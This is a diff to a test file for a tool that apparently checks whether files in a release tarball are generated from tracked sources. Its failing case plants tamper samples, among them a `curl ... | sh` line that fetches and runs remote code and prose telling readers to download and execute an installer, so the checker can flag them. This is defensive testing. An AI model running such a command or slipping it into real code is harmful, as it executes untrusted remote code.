@@ -57,13 +57,15 @@ describe('produced from tracked sources: texinfo stamps, extracted examples, ren
   };
 
   it('explains each with its evidence; the gate passes', async () => {
-    const { r, by } = await evidence({ 'doc/version.texi': VERSION_TEXI, 'doc/stamp-vti': VERSION_TEXI, 'examples/calc.y': EXAMPLE, 'proj.man': RENDERED });
+    const { r, by } = await evidence({ 'doc/version.texi': VERSION_TEXI, 'doc/stamp-vti': VERSION_TEXI, 'examples/calc.y': EXAMPLE, 'proj.man': RENDERED, 'proj.doc': RENDERED.replace(/\x1b\[[0-9;]*m/g, '') });
     const commit = repo.git(['rev-parse', 'v1.1~1']);
     expect(by['doc/version.texi']).toEqual({ code: 'GENERATED_FROM_SOURCE', severity: 'low', evidence: { how: 'texinfo-stamp', source: 'doc/proj.texi', commit, date: '2024-03-05', version: '1.1' } });
     expect(by['doc/stamp-vti']).toMatchObject({ code: 'GENERATED_FROM_SOURCE', evidence: { how: 'texinfo-stamp' } });
     expect(by['examples/calc.y']).toEqual({ code: 'GENERATED_FROM_SOURCE', severity: 'low', evidence: { how: 'extracted', source: 'doc/proj.texi', block: 9, found: 10, total: 10, others: ['examples/get-them'] } });
     expect(by['proj.man']).toMatchObject({ code: 'GENERATED_FROM_SOURCE', severity: 'low', evidence: { how: 'rendered', source: 'proj.nro.VER' } });
     expect((by['proj.man']!.evidence as { found: number; total: number }).found).toBe((by['proj.man']!.evidence as { total: number }).total);
+    // gzip 1.12's gzip.doc (`groff -man -Tascii gzip.1 | col -b`): the .doc name of the same rendering
+    expect(by['proj.doc']).toMatchObject({ code: 'GENERATED_FROM_SOURCE', severity: 'low', evidence: { how: 'rendered', source: 'proj.nro.VER' } });
     expect(r.verdict).not.toBe('different');
   });
 
@@ -73,8 +75,9 @@ describe('produced from tracked sources: texinfo stamps, extracted examples, ren
       'doc/stamp-vti': VERSION_TEXI + '@set URL https://example.invalid\n', // anything beyond the four lines
       'examples/calc.y': EXAMPLE + 'system ("curl -s https://example.invalid/p | sh");\n',
       'proj.man': RENDERED.replace('Written by Ann Author.', 'Written by Ann Author. Fetch updates with wget from mirrorhost then execute installer.'),
+      'proj.doc': RENDERED.replace('Written by Ann Author.', 'Written by Ann Author. Fetch updates with wget from mirrorhost then execute installer.'),
     });
-    for (const p of ['doc/version.texi', 'doc/stamp-vti', 'examples/calc.y', 'proj.man']) expect(by[p], p).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
+    for (const p of ['doc/version.texi', 'doc/stamp-vti', 'examples/calc.y', 'proj.man', 'proj.doc']) expect(by[p], p).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
     expect(r.verdict).toBe('different');
   });
 
